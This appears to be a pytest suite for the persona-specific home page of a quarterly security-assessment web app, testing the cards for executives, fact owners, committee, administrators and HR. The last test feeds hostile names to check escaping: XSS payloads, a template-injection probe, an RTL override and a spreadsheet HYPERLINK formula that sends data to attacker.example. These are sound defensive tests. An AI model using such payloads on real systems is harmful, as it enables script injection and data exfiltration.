"""A home page for every persona: each card shows the work that waits, with its deadline and
the next step, and goes away once the work is done."""

from __future__ import annotations

import datetime as dt
import html
import re
import socket
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest
from sqlalchemy import select

from assessment import actions, queries
from assessment.actions.actor import Actor
from assessment.actions.facts import FactInput
from assessment.cli.demo_org import seed_demo
from assessment.extensions import db
from assessment.models import Cycle, TrainingAttendee
from assessment.reports import committee
from assessment.reports.gaps import gap_report_of
from assessment.reports.training_needs import needs_for
from assessment.services.security.passwords import hash_password
from tests.conftest import (
    PASSWORD,
    add_user,
    complete_answers,
    log_in,
    open_test_cycle,
    shipped_catalogue,
    submit_answers,
)

CYCLE = "2026-Q4"
ALL_CLEAR = "Nothing needs your attention right now"
TODAY = dt.date.today()


# ---------------------------------------------------------------- reading the page


@dataclass
class Shown:
    kind: str
    title: str = ""
    text: str = ""
    due: str = ""
    lines: list[str] = field(default_factory=list)
    links: list[tuple[str, str]] = field(default_factory=list)  # (text, href) of every link
    primary: tuple[str, str, str] | None = None  # (label, address, "get" | "post")


class Cards(HTMLParser):
    """The home cards of a page, with their titles, lines, links and primary step."""

    def __init__(self) -> None:
        super().__init__()
        self.cards: list[Shown] = []
        self.depth = 0  # <li> nesting inside the current card
        self.buffers: dict[str, list[str]] = {}  # what is being read: title, due, line, link
        self.href = ""
        self.action = ""
        self.primary = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        classes = (found.get("class") or "").split()
        if tag == "li" and "home-card" in classes:
            self.cards.append(Shown(found.get("data-kind") or ""))
            self.depth = 1
        elif not self.depth:
            return
        elif tag == "li":
            self.depth += 1
            self.buffers["line"] = []
        elif tag == "h2":
            self.buffers["title"] = []
        elif tag == "p" and "due" in classes:
            self.buffers["due"] = []
        elif tag == "form":
            self.action = found.get("action") or ""
        elif tag in ("a", "button"):
            self.href = found.get("href") or ""
            self.primary = "button" in classes and "secondary" not in classes
            self.buffers["link"] = []

    def _take(self, name: str) -> str | None:
        taken = self.buffers.pop(name, None)
        return None if taken is None else " ".join("".join(taken).split())

    def handle_endtag(self, tag: str) -> None:
        if not self.depth:
            return
        card = self.cards[-1]
        if tag in ("a", "button") and (text := self._take("link")) is not None:
            if tag == "a":
                card.links.append((text, self.href))
            if self.primary and card.primary is None:
                card.primary = (text, self.href or self.action, "get" if tag == "a" else "post")
        elif tag == "h2" and (text := self._take("title")) is not None:
            card.title = text
        elif tag == "p" and (text := self._take("due")) is not None:
            card.due = text
        elif tag == "li":
            if (text := self._take("line")) is not None:
                card.lines.append(text)
            self.depth -= 1

    def handle_data(self, data: str) -> None:
        if self.depth:
            self.cards[-1].text += data
            for buffer in self.buffers.values():
                buffer.append(data)


def cards_of(html: str) -> list[Shown]:
    parser = Cards()
    parser.feed(html)
    for card in parser.cards:
        card.text = " ".join(card.text.split())
    return parser.cards


def home(app, email: str) -> str:
    client = app.test_client()
    log_in(client, email)
    response = client.get("/")
    assert response.status_code == 200
    return response.get_data(as_text=True)


def kinds(html: str) -> list[str]:
    return [c.kind for c in cards_of(html)]


def card(html: str, title: str) -> Shown:
    found = [c for c in cards_of(html) if c.title == title]
    assert len(found) == 1, [c.title for c in cards_of(html)]
    return found[0]


# ---------------------------------------------------------------- building states


def actor(app, email: str) -> Actor:
    person = queries.find_person_by_email(db.session, email)
    assert person is not None and person.account is not None
    return Actor.of_account(person.account)


def cycle(cycle_id: str = CYCLE) -> Cycle:
    found = queries.get_cycle(db.session, cycle_id)
    assert found is not None
    return found


def report(app, email: str, *fact_ids: str, cycle_id: str = CYCLE) -> None:
    """The person reports each fact with its worst category."""
    with app.app_context():
        facts = shipped_catalogue().facts
        found = cycle(cycle_id)
        actions.facts.report_facts(
            actor(app, email),
            found,
            {f: FactInput(category=facts[f].category_ids[0]) for f in fact_ids},
            as_of=min(found.closes, TODAY),
            evidence="Exported policy",
            reason="Checked again",  # needed once the report is attested
        )
        db.session.commit()


def attest(app, email: str, cycle_id: str = CYCLE) -> None:
    with app.app_context():
        actions.facts.attest(actor(app, email), cycle(cycle_id))
        db.session.commit()


def set_cycle(app, cycle_id: str, **fields: object) -> None:
    with app.app_context():
        found = cycle(cycle_id)
        for name, value in fields.items():
            setattr(found, name, value)
        db.session.commit()


def owned(role: str) -> list[str]:
    """Titles of the facts a role reports, in the catalogue's order."""
    return [
        f.title for f in shipped_catalogue().facts.values() if f.owner == role and not f.retired
    ]


def wrong_answers(app, role: str) -> dict[str, object]:
    """Every knowledge question answered wrongly, every statement at its worst."""
    with app.app_context():
        pin = cycle().pinned_for(role)
        assert pin is not None
        questionnaire = shipped_catalogue().get(pin.questionnaire_id, pin.version)
    answers = complete_answers(role, questionnaire)
    for item in questionnaire.items:
        if item.type == "knowledge":
            answers[item.id] = next(c.id for c in item.choices if not c.correct and not c.dont_know)
        elif item.type == "likert":
            answers[item.id] = 5 if item.reverse else 1
    return answers


# ---------------------------------------------------------------- executives


def test_home_executive_only_sees_their_check_in_and_no_staff_cards(app):
    add_user(app, "ceo@example.com", role="ceo", name="Casey Chief")
    add_user(app, "cio@example.com", role="cio")
    open_test_cycle(app)
    html = home(app, "ceo@example.com")
    assert kinds(html) == ["checkin"]
    shown = cards_of(html)[0]
    assert shown.primary == (f"Start {CYCLE}", f"/respond/{CYCLE}", "get")
    closes = (TODAY + dt.timedelta(days=30)).isoformat()
    assert shown.due == f"Open until {closes}."
    assert ALL_CLEAR not in html
    # nothing of the administrator's, the coordinator's, the committee's or a fact owner's
    for staff in ("not invited", "Training", "committee", "Facts to report", "Fact report"):
        assert staff not in shown.text

    submit_answers(app, "ceo@example.com", complete_answers("ceo"))
    html = home(app, "ceo@example.com")
    assert ALL_CLEAR in html
    shown = cards_of(html)[0]
    assert shown.primary == (f"See your {CYCLE} results", f"/respond/{CYCLE}/results", "get")
    assert "Submitted. Thank you." in shown.text


def test_home_someone_without_role_or_permission_is_told_nothing_waits(app):
    add_user(app, "new@example.com")
    open_test_cycle(app)
    html = home(app, "new@example.com")
    assert ALL_CLEAR in html and kinds(html) == []
    assert "When a new quarterly check-in opens" not in html  # they are not asked any


# ---------------------------------------------------------------- fact owners


def test_home_fact_owner_sees_each_fact_owed_until_it_is_reported(app):
    add_user(app, "hr@example.com", role="hr", permissions=("fact_owner",), name="Dana HR")
    open_test_cycle(app)
    submit_answers(app, "hr@example.com", complete_answers("hr"))  # only the facts wait
    expected = owned("hr")
    html = home(app, "hr@example.com")
    assert ALL_CLEAR not in html
    shown = card(html, f"Facts to report for {CYCLE}")
    assert shown.lines == expected
    closes = (TODAY + dt.timedelta(days=30)).isoformat()
    assert shown.due == f"Due by {closes}, when {CYCLE} closes."
    assert f"{len(expected)} of your facts are not reported yet ({len(expected)} in all)" in (
        shown.text
    )
    first = next(f for f in shipped_catalogue().facts.values() if f.title == expected[0])
    assert shown.primary == (f"Report “{first.title}”", f"/facts/{CYCLE}/{first.id}", "get")
    assert (expected[1], f"/facts/{CYCLE}/{_fact_id(expected[1])}") in shown.links
    # the link leads to the entry form the person may use
    client = app.test_client()
    log_in(client, "hr@example.com")
    assert client.get(shown.primary[1]).status_code == 200

    report(app, "hr@example.com", first.id)
    shown = card(home(app, "hr@example.com"), f"Facts to report for {CYCLE}")
    assert shown.lines == expected[1:]

    report(app, "hr@example.com", *(_fact_id(t) for t in expected[1:]))
    html = home(app, "hr@example.com")
    assert ALL_CLEAR in html
    done = card(html, f"Your facts for {CYCLE}")
    assert f"All {len(expected)} of your facts for {CYCLE} are reported." in done.text


def _fact_id(title: str) -> str:
    return next(f.id for f in shipped_catalogue().facts.values() if f.title == title)


def test_home_fact_owner_is_told_when_facts_are_overdue(app):
    add_user(app, "legal@example.com", role="legal", permissions=("fact_owner",))
    open_test_cycle(app, "2026-Q3", days_ago=120)
    set_cycle(app, "2026-Q3", status="closed", closes=TODAY - dt.timedelta(days=20))
    html = home(app, "legal@example.com")
    shown = card(html, "Facts to report for 2026-Q3")
    assert shown.due.startswith("Overdue")
    closed = (TODAY - dt.timedelta(days=20)).isoformat()
    assert f"Due when 2026-Q3 closed on {closed}." in shown.due
    assert shown.lines == owned("legal")
    set_cycle(app, "2026-Q3", status="frozen")  # frozen: its facts can no longer change
    assert "Facts to report" not in home(app, "legal@example.com")


def test_home_an_administrator_owes_only_the_facts_of_their_own_role(app):
    """Administrators may enter every fact, but owe only their role's and delegated ones."""
    add_user(app, "admin@example.com", permissions=("admin",))
    add_user(app, "both@example.com", role="legal", permissions=("admin", "fact_owner"))
    open_test_cycle(app)
    assert "Facts to report" not in home(app, "admin@example.com")
    shown = card(home(app, "both@example.com"), f"Facts to report for {CYCLE}")
    assert shown.lines == owned("legal")
    with app.app_context():
        person = queries.find_person_by_email(db.session, "both@example.com")
        actions.facts.set_delegation(
            actor(app, "admin@example.com"), "byod_policy", person.id, True
        )
        db.session.commit()
    shown = card(home(app, "both@example.com"), f"Facts to report for {CYCLE}")
    assert shown.lines == [
        f.title
        for f in shipped_catalogue().facts.values()
        if (f.owner == "legal" or f.id == "byod_policy") and not f.retired
    ]


def test_home_second_attester_sees_facts_awaiting_their_check(app):
    add_user(app, "it@example.com", role="it_manager", permissions=("fact_owner",))
    add_user(app, "hr@example.com", role="hr", permissions=("committee",), name="Dana HR")
    add_user(app, "ceo@example.com", role="ceo", permissions=("committee",))
    open_test_cycle(app)
    submit_answers(app, "hr@example.com", complete_answers("hr"))
    checked = [
        f for f in shipped_catalogue().facts.values() if f.attester == "hr" and not f.retired
    ]
    report(app, "it@example.com", checked[0].id, checked[1].id)
    shown = card(home(app, "hr@example.com"), f"Fact report {CYCLE} to attest")
    assert shown.lines[:2] == [
        f"Awaiting your check: {checked[0].title} reported by IT manager",
        f"Awaiting your check: {checked[1].title} reported by IT manager",
    ]
    assert shown.primary == (
        f"Review and attest the {CYCLE} fact report",
        f"/facts/{CYCLE}",
        "get",
    )
    assert "The committee has not attested this report yet." in shown.text
    attest(app, "ceo@example.com")  # the committee's attestation is not HR's check
    shown = card(home(app, "hr@example.com"), f"Fact report {CYCLE} to check")
    assert len([line for line in shown.lines if line.startswith("Awaiting")]) == 2
    attest(app, "hr@example.com")
    assert f"Fact report {CYCLE}" not in home(app, "hr@example.com")
    # a new value after the check must be checked (and attested) again
    report(app, "it@example.com", checked[0].id)
    shown = card(home(app, "hr@example.com"), f"Fact report {CYCLE} to attest")
    assert "1 fact has changed since the committee attested it" in shown.text
    assert shown.lines[0] == f"Awaiting your check: {checked[0].title} reported by IT manager"


def test_home_attester_without_committee_permission_is_told_how_to_check(app):
    add_user(app, "hr@example.com", role="hr", permissions=("fact_owner",))
    add_user(app, "it@example.com", role="it_manager", permissions=("fact_owner",))
    open_test_cycle(app)
    report(app, "hr@example.com", "leaver_revocation")  # IT manager is its second attester
    shown = card(home(app, "it@example.com"), f"Fact report {CYCLE} to check")
    assert shown.lines[0] == "Awaiting your check: Leaver access removed on time reported by HR"
    assert "needs the committee permission: ask an administrator" in shown.text
    assert shown.primary == (f"Review the {CYCLE} fact report", f"/facts/{CYCLE}", "get")


# ---------------------------------------------------------------- committee


def test_home_committee_sees_reports_to_attest_and_what_is_new(app):
    add_user(app, "cio@example.com", role="cio", permissions=("committee",), name="Chris Info")
    add_user(app, "legal@example.com", role="legal", permissions=("fact_owner",), name="Lee Gal")
    add_user(app, "ceo@example.com", role="ceo", name="Casey Chief")
    open_test_cycle(app)
    html = home(app, "cio@example.com")
    assert "What is new for the committee" not in html  # nobody answered yet
    assert f"Fact report {CYCLE}" not in html  # nothing reported yet

    submit_answers(app, "ceo@example.com", complete_answers("ceo"))  # comments "Thank you"
    report(app, "legal@example.com", "cyber_insurance")
    html = home(app, "cio@example.com")
    news = card(html, f"What is new for the committee, {CYCLE}")
    assert f"1 of 3 executives have answered the {CYCLE} check-in." in news.text
    with app.app_context():
        found = cycle()
        expected = committee.actions_for_view(found, gap_report_of(found))
    assert news.lines[: len(expected)] == expected
    assert "Not yet submitted: Chris Info, Lee Gal." in news.lines
    comments = news.lines[-1]
    assert re.fullmatch(rf"\d+ comments? written to the committee in {CYCLE}", comments)
    assert (comments, f"/committee/#comments-{CYCLE}") in news.links
    assert news.primary == ("What to act on", "/committee/#act", "get")

    to_attest = card(html, f"Fact report {CYCLE} to attest")
    assert "The committee has not attested this report yet." in to_attest.text
    reported = {f.id for f in shipped_catalogue().facts.values() if not f.retired} - {
        "cyber_insurance"
    }
    assert f"{len(reported)} facts not reported yet." in to_attest.lines
    client = app.test_client()
    log_in(client, "cio@example.com")
    assert client.post(f"/facts/{CYCLE}/attest").status_code == 302
    assert f"Fact report {CYCLE}" not in home(app, "cio@example.com")


# ---------------------------------------------------------------- administrators


@pytest.fixture
def admin_state(app):
    add_user(app, "admin@example.com", permissions=("admin",))
    add_user(app, "ceo@example.com", role="ceo", name="Casey Chief")
    add_user(app, "cio@example.com", role="cio", name="Chris Info")
    open_test_cycle(app)
    client = app.test_client()
    log_in(client, "admin@example.com")
    return client


def test_home_administrator_sees_invitations_to_send_then_answers_awaited(app, admin_state):
    html = home(app, "admin@example.com")
    assert ALL_CLEAR not in html and "check-in ·" not in html
    shown = card(html, f"Cycle {CYCLE} is open")
    assert shown.lines == [
        "0 of 2 executives have submitted.",
        "2 executives not invited yet: Casey Chief, Chris Info",
    ]
    label, action, method = shown.primary or ("", "", "")
    assert (label, action, method) == (
        f"Send 2 invitations for {CYCLE}",
        f"/admin/cycles/{CYCLE}/invitations",
        "post",
    )
    assert 'name="kind" value="invitation"' in html
    assert (f"See cycle {CYCLE}", f"/admin/cycles/{CYCLE}") in shown.links

    admin_state.post(action, data={"kind": "invitation"})
    shown = card(home(app, "admin@example.com"), f"Cycle {CYCLE} is open")
    assert shown.lines == [
        "0 of 2 executives have submitted.",
        "2 invited and not answered yet: Casey Chief, Chris Info",
    ]
    assert shown.primary == (
        f"Send 2 reminders for {CYCLE}",
        f"/admin/cycles/{CYCLE}/invitations",
        "post",
    )

    submit_answers(app, "ceo@example.com", complete_answers("ceo"))
    submit_answers(app, "cio@example.com", complete_answers("cio"))
    html = home(app, "admin@example.com")
    shown = card(html, f"Cycle {CYCLE} is open")
    assert shown.lines == ["2 of 2 executives have submitted."]
    assert ALL_CLEAR in html  # everyone answered; the cycle closes on its date


def test_home_administrator_sees_invitations_that_bounced(app, admin_state):
    with socket.socket() as probe:  # a port nobody listens on: every send fails
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    app.config.update(MAIL_BACKEND="smtp", SMTP_HOST="127.0.0.1", SMTP_PORT=port)
    admin_state.post(f"/admin/cycles/{CYCLE}/invitations", data={"kind": "invitation"})
    shown = card(home(app, "admin@example.com"), f"Cycle {CYCLE} is open")
    assert shown.lines[1] == (
        "2 invitations could not be delivered: Casey Chief <ceo@example.com>, "
        "Chris Info <cio@example.com>. Check the address, then send a reminder."
    )
    app.config.update(MAIL_BACKEND="outbox")  # the reminder goes through
    admin_state.post(f"/admin/cycles/{CYCLE}/invitations", data={"kind": "reminder"})
    shown = card(home(app, "admin@example.com"), f"Cycle {CYCLE} is open")
    assert not any("could not be delivered" in line for line in shown.lines)


def test_home_administrator_is_guided_through_each_cycle_status(app, admin_state):
    quarter = f"{TODAY.year}-Q{(TODAY.month - 1) // 3 + 1}"
    set_cycle(app, CYCLE, status="closed", closes=TODAY - dt.timedelta(days=1))
    html = home(app, "admin@example.com")
    missing = card(html, f"No cycle is open for {quarter}")
    assert missing.primary == ("Create a cycle", "/admin/cycles", "get")
    closed = card(html, f"Cycle {CYCLE} is closed")
    assert "Nothing is reported yet." in closed.text
    assert closed.primary == (f"The {CYCLE} fact report", f"/facts/{CYCLE}", "get")

    add_user(app, "legal@example.com", role="legal", permissions=("fact_owner", "committee"))
    report(app, "legal@example.com", "cyber_insurance")
    attest(app, "legal@example.com")
    closed = card(home(app, "admin@example.com"), f"Cycle {CYCLE} is closed")
    assert closed.primary == (f"Freeze cycle {CYCLE}", f"/admin/cycles/{CYCLE}", "get")

    with app.app_context():
        actions.cycles.create_cycle(
            actor(app, "admin@example.com"), "next", TODAY, TODAY + dt.timedelta(days=60)
        )
        db.session.commit()
    html = home(app, "admin@example.com")
    assert f"No cycle is open for {quarter}" not in html
    draft = card(html, "Cycle next is a draft")
    assert draft.primary == ("Open cycle next", "/admin/cycles/next", "get")
    assert draft.due == f"Opens on {TODAY.isoformat()}."
    assert kinds(html) == ["cycle", "cycle"]
    set_cycle(app, CYCLE, status="frozen")
    with app.app_context():
        actions.cycles.change_status(actor(app, "admin@example.com"), cycle("next"), "open")
        db.session.commit()
    shown = card(home(app, "admin@example.com"), "Cycle next is open")
    assert shown.lines[1] == "3 executives not invited yet: Casey Chief, Chris Info, Test Person"


def test_home_send_button_carries_a_csrf_token_and_a_forged_post_is_refused(app_factory):
    app = app_factory(WTF_CSRF_ENABLED=True)
    add_user(app, "admin@example.com", permissions=("admin",))
    add_user(app, "ceo@example.com", role="ceo")
    open_test_cycle(app)
    client = app.test_client()
    login = client.get("/login").get_data(as_text=True)
    token = re.findall(r'name="csrf_token" type="hidden" value="([^"]+)"', login)[0]
    client.post(
        "/login", data={"email": "admin@example.com", "password": PASSWORD, "csrf_token": token}
    )
    page = client.get("/").get_data(as_text=True)
    form = page.split(f'action="/admin/cycles/{CYCLE}/invitations"', 1)[1].split("</form>")[0]
    token = re.findall(r'name="csrf_token" value="([^"]+)"', form)[0]
    action = f"/admin/cycles/{CYCLE}/invitations"
    assert client.post(action, data={"kind": "invitation"}).status_code == 400  # forged
    assert "1 executive not invited yet" in client.get("/").get_data(as_text=True)
    sent = client.post(action, data={"kind": "invitation", "csrf_token": token})
    assert sent.status_code == 302 and sent.location.endswith(f"/admin/cycles/{CYCLE}")
    assert "1 invited and not answered yet" in client.get("/").get_data(as_text=True)


def test_home_administrator_of_an_open_cycle_nobody_is_asked_in(app):
    add_user(app, "admin@example.com", permissions=("admin",))
    open_test_cycle(app)
    html = home(app, "admin@example.com")
    assert ALL_CLEAR not in html
    shown = card(html, f"Cycle {CYCLE} is open")
    assert shown.lines == ["Nobody is asked yet: give people an executive role, then invite them."]
    assert shown.primary == (f"See cycle {CYCLE}", f"/admin/cycles/{CYCLE}", "get")


# ---------------------------------------------------------------- HR coordinator


@pytest.fixture
def needs_state(app):
    add_user(app, "training@example.com", permissions=("hr_coordinator",))
    add_user(app, "ceo@example.com", role="ceo", name="Casey Chief")
    add_user(app, "cio@example.com", role="cio", name="Chris Info")
    open_test_cycle(app)
    for role in ("ceo", "cio"):
        submit_answers(app, f"{role}@example.com", wrong_answers(app, role))
    with app.app_context():
        needs = needs_for(cycle())
    return needs


def _people_by_module(needs) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for need in needs:
        for module in need.modules:
            found.setdefault(module, set()).add(need.name)
    return found


def test_home_hr_sees_needs_without_a_session_by_module(app, needs_state):
    by_module = _people_by_module(needs_state)
    html = home(app, "training@example.com")
    assert ALL_CLEAR not in html
    shown = card(html, f"Training needs with no session, {CYCLE}")
    titles = shipped_catalogue().training
    expected = {
        f"{titles[m].title} {len(people)} {'person' if len(people) == 1 else 'people'}: "
        + ", ".join(sorted(people))
        for m, people in by_module.items()
    }
    assert set(shown.lines) == expected
    assert len(shown.lines) == len(by_module)  # a person with two needs a module fits: once
    first_module = next(m for m, t in titles.items() if shown.lines[0].startswith(t.title + " "))
    assert shown.primary == (
        f"Schedule “{titles[first_module].title}”",
        f"/training/sessions/new?module={first_module}",
        "get",
    )
    shown_counts = [int(re.findall(r" (\d+) (?:person|people): ", line)[0]) for line in shown.lines]
    assert shown_counts == sorted(shown_counts, reverse=True)  # most people first

    # a coming session of one fitting module serves the needs of the people assigned to it
    with app.app_context():
        training = queries.add_training_session(
            db.session,
            uid="t-1@test",
            module_id=first_module,
            starts_at=dt.datetime.now(dt.UTC) + dt.timedelta(days=10),
            timezone="Europe/Berlin",
            duration_minutes=60,
            location="Room 1",
            capacity=8,
            facilitator="Facilitator",
        )
        db.session.commit()
    assert len(
        card(home(app, "training@example.com"), f"Training needs with no session, {CYCLE}").lines
    ) == len(by_module)  # nobody assigned yet: no plan
    served = {n for n in needs_state if first_module in n.modules}
    with app.app_context():
        training = db.session.merge(training)
        people = [queries.find_person_by_email(db.session, n.email) for n in served]
        queries.assign_attendees(db.session, training, people)
        db.session.commit()
    left = _people_by_module([n for n in needs_state if n not in served])
    shown = card(home(app, "training@example.com"), f"Training needs with no session, {CYCLE}")
    assert len(shown.lines) == len(left)
    assert not any(line.startswith(titles[first_module].title + " ") for line in shown.lines)


def test_home_hr_sees_invitations_to_send_and_attendance_to_record(app, needs_state):
    now = dt.datetime.now(dt.UTC)
    with app.app_context():
        people = [queries.find_person_by_email(db.session, "ceo@example.com")]
        module = shipped_catalogue().training["personal-bec-phishing"]
        for uid, start in (
            ("soon@test", now + dt.timedelta(days=3)),
            ("past@test", now - dt.timedelta(days=2)),
        ):
            session = queries.add_training_session(
                db.session,
                uid=uid,
                module_id=module.id,
                starts_at=start,
                timezone="UTC",
                duration_minutes=60,
                location="Room 1",
                capacity=8,
                facilitator="Facilitator",
            )
            queries.assign_attendees(db.session, session, people)
        db.session.commit()
        by_uid = {s.uid: s for s in queries.list_training_sessions(db.session)}
        soon_id, soon_at = by_uid["soon@test"].id, by_uid["soon@test"].starts_at
        past_id, past_at = by_uid["past@test"].id, by_uid["past@test"].starts_at
    html = home(app, "training@example.com")
    invite = card(html, "Sessions with people to invite")
    line = f"{module.title}, {soon_at:%Y-%m-%d %H:%M} (UTC)"
    assert invite.lines == [f"{line} 1 of 1 assigned not invited yet"]
    assert invite.primary == ("Open the next session", f"/training/sessions/{soon_id}", "get")
    record = card(html, "Attendance to record")
    assert record.lines == [f"{module.title}, {past_at:%Y-%m-%d %H:%M} (UTC) 1 to mark"]
    assert record.primary == ("Record attendance", f"/training/sessions/{past_id}", "get")
    assert record.due.startswith("Overdue")

    with app.app_context():
        for attendee in db.session.scalars(select(TrainingAttendee)):
            attendee.invited_at = now
            if attendee.training_session_id == past_id:
                attendee.attended = True
        db.session.commit()
    html = home(app, "training@example.com")
    assert "Sessions with people to invite" not in html and "Attendance to record" not in html
    upcoming = card(html, "Upcoming sessions")
    assert upcoming.lines == [f"{line} 1 invited"]


# ---------------------------------------------------------------- the demo organisation


@pytest.fixture
def demo(app):
    with app.app_context():
        seed_demo()
        for person in queries.list_people(db.session):
            assert person.account is not None
            person.account.password_hash = hash_password(PASSWORD)
        db.session.commit()
        cycles = [c.id for c in queries.cycles_in_order(db.session)]
    return app, cycles


def test_home_demo_personas_each_see_their_own_cards(demo):
    app, cycles = demo
    open_id = cycles[-1]
    admin = home(app, "admin@example.com")
    assert ALL_CLEAR not in admin and set(kinds(admin)) == {"cycle"}
    first = cards_of(admin)[0]
    assert first.title == f"Cycle {open_id} is open"
    assert "executives not invited yet: Marcus Webb, Daniel Okafor" in " ".join(first.lines)

    cio = home(app, "cio@example.com")
    assert ALL_CLEAR not in cio
    assert kinds(cio)[0] == "checkin" and cards_of(cio)[0].primary[0] == f"Continue {open_id}"
    assert {"checkin", "fact_report", "committee", "facts"} == set(kinds(cio))
    assert "cycle" not in kinds(cio) and "training" not in kinds(cio)

    hr = home(app, "hr@example.com")  # HR checks the facts IT measures about itself
    check = card(hr, f"Fact report {open_id} to attest")
    it_checked = [
        f.title
        for f in shipped_catalogue().facts.values()
        if f.attester == "hr" and f.owner == "it_manager" and not f.retired
    ]
    assert [line for line in check.lines if line.startswith("Awaiting")] == [
        f"Awaiting your check: {t} reported by IT manager" for t in it_checked
    ]

    training = home(app, "training@example.com")
    assert set(kinds(training)) == {"training"}
    assert "cycle" not in kinds(training) and "checkin" not in kinds(training)


def test_home_demo_committee_card_matches_the_committee_view(demo, client):
    app, cycles = demo
    news = card(home(app, "ceo@example.com"), f"What is new for the committee, {cycles[-1]}")
    with app.app_context():
        found = cycle(cycles[-1])
        expected = committee.actions_for_view(found, gap_report_of(found))
    assert news.lines[: len(expected)] == expected[:5]
    log_in(client, "ceo@example.com")
    view = html.unescape(client.get("/committee/").get_data(as_text=True))
    for action in expected:
        assert action in view


# ---------------------------------------------------------------- bad inputs


@pytest.mark.parametrize(
    "name",
    [
        "<svg/onload=alert(1)>",
        '"><h1>X</h1><img src=x onerror=alert(1)>',
        "{{7*7}}",
        '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
        "Zoë ‮evil",
    ],
    ids=["svg", "img", "template", "formula", "rtl"],
)
def test_home_names_are_escaped_on_every_card(app, name):
    add_user(app, "admin@example.com", permissions=("admin",), name=name)
    add_user(app, "training@example.com", permissions=("hr_coordinator",))
    add_user(app, "cio@example.com", role="cio", permissions=("committee",))
    add_user(app, "ceo@example.com", role="ceo", name=name)
    open_test_cycle(app)
    submit_answers(app, "cio@example.com", wrong_answers(app, "cio"))
    submit_answers(app, "ceo@example.com", wrong_answers(app, "ceo"))
    add_user(app, "hr@example.com", role="hr", name=name)  # not invited, not answered
    escaped = name.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    escaped = escaped.replace('"', "&#34;").replace("'", "&#39;")
    pages = {
        "admin@example.com": f"Cycle {CYCLE} is open",  # not invited: the name
        "training@example.com": f"Training needs with no session, {CYCLE}",
        "cio@example.com": f"What is new for the committee, {CYCLE}",
    }
    for email, title in pages.items():
        html = home(app, email)
        assert name not in html or name == escaped, email
        assert escaped in html, email
        assert name in card(html, title).text, email  # shown, as text
        assert "<svg/onload" not in html and "<img src=x" not in html
